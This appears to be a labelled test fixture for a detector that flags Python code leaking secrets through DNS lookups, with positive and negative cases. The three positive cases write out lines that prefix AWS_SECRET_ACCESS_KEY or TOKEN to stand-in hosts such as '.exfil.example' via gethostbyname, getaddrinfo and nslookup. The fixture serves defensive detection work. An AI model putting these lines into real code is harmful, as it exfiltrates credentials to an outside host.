#@ pos a secret as a subdomain
import os, socket
socket.gethostbyname(os.environ["AWS_SECRET_ACCESS_KEY"] + ".exfil.example")
#@ pos through getaddrinfo and getenv
import os, socket
socket.getaddrinfo(os.getenv("TOKEN") + ".x.example", 443)
#@ neg a host name from the program's own settings
import socket
socket.gethostbyname("example.org")
#@ neg the port from the environment, the host a constant
import os, socket
print(socket.getaddrinfo("localhost", int(os.environ.get("PORT", "80"))))
#@ pos a secret in an nslookup child's name
import os, subprocess
subprocess.run(["nslookup", os.environ["TOKEN"] + ".x.example"])
#@ neg nslookup of a constant name, the port from the environment elsewhere
import os, subprocess
subprocess.run(["nslookup", "example.org"])
print(os.environ.get("PORT", "80"))
